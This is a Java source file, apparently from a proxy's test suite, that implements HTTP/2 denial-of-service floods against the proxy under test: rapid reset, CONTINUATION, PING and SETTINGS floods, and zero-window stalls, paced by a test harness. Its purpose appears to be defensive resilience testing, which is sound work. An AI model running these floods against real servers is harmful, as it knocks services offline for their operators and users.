package io.apfproxy.attack;

import io.apfproxy.fixtures.attack.FrameConnection;
import io.apfproxy.fixtures.raw.Http2Frame;
import java.io.IOException;
import java.net.SocketTimeoutException;
import java.nio.ByteBuffer;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;

/** Frames that are cheap to send and dear to take. */
final class Http2Attacks {
  private static final int CREW = 4;
  private static final int STREAMS = 100;
  private static final int CANCEL = 8;

  /** A window that the lists of one connection do not fill. */
  private static final int WIDE = 1 << 30;

  /** Between two batches of a flood, which makes it a hundred thousand frames a second at most. */
  private static final Duration PACE = Duration.ofMillis(4);

  private Http2Attacks() {}

  /** Of a client without a credential, whose answers cannot leave, so that its streams stay. */
  static void settingsOfOpenStreams(Siege siege) throws InterruptedException {
    List<Http2Frame> settings =
        Collections.nCopies(
            1_000,
            new Http2Frame(
                Http2Frame.SETTINGS,
                0,
                0,
                new byte[] {0, FrameConnection.INITIAL_WINDOW_SIZE, 0, 0, 0, 0}));
    siege.flood(
        CREW,
        () -> {
          FrameConnection connection = siege.http2(Map.of(FrameConnection.INITIAL_WINDOW_SIZE, 0));
          for (int i = 0; i < STREAMS; i++) {
            connection.headers(2 * i + 1, true, get("/version"));
          }
          while (siege.goesOn()) {
            connection.send(settings);
            siege.acted();
            siege.rest(PACE);
          }
        });
  }

  /** Large lists of a user who may read them, into a window that never opens. */
  static void windowZero(Siege siege) throws InterruptedException {
    siege.crew(
        CREW,
        () -> {
          askForLargeLists(siege, siege.http2(Map.of(FrameConnection.INITIAL_WINDOW_SIZE, 0)));
          siege.rest(Duration.ofMillis(500));
        });
  }

  /**
   * The same lists, read as they come: no attack, but what so many lists take of the processors
   * anyway, and what {@link #windowZero} is to be compared with.
   */
  static void listsRead(Siege siege) throws InterruptedException {
    siege.crew(
        CREW,
        () -> {
          FrameConnection connection =
              siege.http2(Map.of(FrameConnection.INITIAL_WINDOW_SIZE, WIDE));
          connection.credit(0, WIDE);
          askForLargeLists(siege, connection);
          Thread reader = new Thread(() -> readAll(connection), "reader");
          reader.setDaemon(true);
          reader.start();
          siege.rest(Duration.ofMillis(500));
        });
  }

  private static void askForLargeLists(Siege siege, FrameConnection connection) throws IOException {
    for (int i = 0; i < 25 && siege.goesOn(); i++) {
      connection.headers(
          2 * i + 1, true, get(StrangerIT.LARGE_LIST, siege.authorization("reader")));
    }
  }

  static void tinyHeaderList(Siege siege) throws InterruptedException {
    siege.crew(
        CREW,
        () -> {
          FrameConnection connection = siege.http2(Map.of(FrameConnection.MAX_HEADER_LIST_SIZE, 1));
          for (int i = 0; i < STREAMS; i++) {
            connection.headers(2 * i + 1, true, get("/version"));
          }
          drain(connection, Duration.ofMillis(200));
          connection.close();
        });
  }

  static void rapidReset(Siege siege) throws InterruptedException {
    siege.flood(
        CREW,
        () -> {
          try (FrameConnection connection = siege.http2(Map.of())) {
            for (int stream = 1; siege.goesOn(); ) {
              List<Http2Frame> batch = new ArrayList<>();
              for (int i = 0; i < STREAMS; i++, stream += 2) {
                batch.addAll(
                    FrameConnection.headerFrames(
                        stream, true, Http2Frame.LONGEST, get("/api/v1/namespaces")));
                batch.add(new Http2Frame(Http2Frame.RST_STREAM, 0, stream, number(CANCEL)));
              }
              connection.send(batch);
              siege.acted();
              siege.rest(PACE);
            }
          }
        });
  }

  /** What has been begun for them is lost. */
  static void resetUnderWay(Siege siege) throws InterruptedException {
    siege.flood(
        CREW,
        () -> {
          try (FrameConnection connection = siege.http2(Map.of())) {
            for (int first = 1; siege.goesOn(); first += 2 * STREAMS) {
              List<Http2Frame> resets = new ArrayList<>();
              for (int stream = first; stream < first + 2 * STREAMS; stream += 2) {
                connection.headers(stream, true, get("/api/v1/namespaces"));
                resets.add(new Http2Frame(Http2Frame.RST_STREAM, 0, stream, number(CANCEL)));
              }
              siege.rest(PACE);
              connection.send(resets);
              siege.acted();
            }
          }
        });
  }

  static void continuations(Siege siege) throws InterruptedException {
    byte[] nothing = {};
    byte[] little = {0, 1, 'a', 1, 'b'};
    siege.flood(
        CREW,
        () -> {
          boolean empty = siege.connections() % 2 == 0;
          try (FrameConnection connection = siege.http2(Map.of())) {
            connection.send(new Http2Frame(Http2Frame.HEADERS, Http2Frame.END_STREAM, 1, nothing));
            List<Http2Frame> batch =
                Collections.nCopies(
                    STREAMS,
                    new Http2Frame(Http2Frame.CONTINUATION, 0, 1, empty ? nothing : little));
            while (siege.goesOn()) {
              connection.send(batch);
              siege.acted();
              siege.rest(PACE);
            }
          }
        });
  }

  static void pings(Siege siege) throws InterruptedException {
    flood(siege, new Http2Frame(Http2Frame.PING, 0, 0, new byte[8]));
  }

  static void settings(Siege siege) throws InterruptedException {
    byte[] windowOfStreams = ByteBuffer.allocate(6).putShort((short) 4).putInt(65_535).array();
    flood(siege, new Http2Frame(Http2Frame.SETTINGS, 0, 0, windowOfStreams));
  }

  private static void flood(Siege siege, Http2Frame frame) throws InterruptedException {
    List<Http2Frame> batch = Collections.nCopies(STREAMS, frame);
    siege.flood(
        CREW,
        () -> {
          try (FrameConnection connection = siege.http2(Map.of())) {
            while (siege.goesOn()) {
              connection.send(batch);
              siege.acted();
              siege.rest(PACE);
            }
          }
        });
  }

  /** Reads what comes for a while. */
  private static void drain(FrameConnection connection, Duration time) throws IOException {
    connection.timeout(time);
    try {
      while (connection.read() != null) {
        // to whom it may concern
      }
    } catch (SocketTimeoutException e) {
      // nothing more
    }
  }

  /** Until the connection ends. */
  private static void readAll(FrameConnection connection) {
    try {
      drain(connection, Duration.ofMinutes(1));
    } catch (IOException e) {
      // cut at the end
    }
  }

  static String[] get(String target, String... more) {
    List<String> lines =
        new ArrayList<>(List.of(":method: GET", ":scheme: https", ":authority: a"));
    lines.add(":path: " + target);
    lines.addAll(List.of(more));
    return lines.toArray(String[]::new);
  }

  private static byte[] number(int value) {
    return ByteBuffer.allocate(Integer.BYTES).putInt(value).array();
  }
}
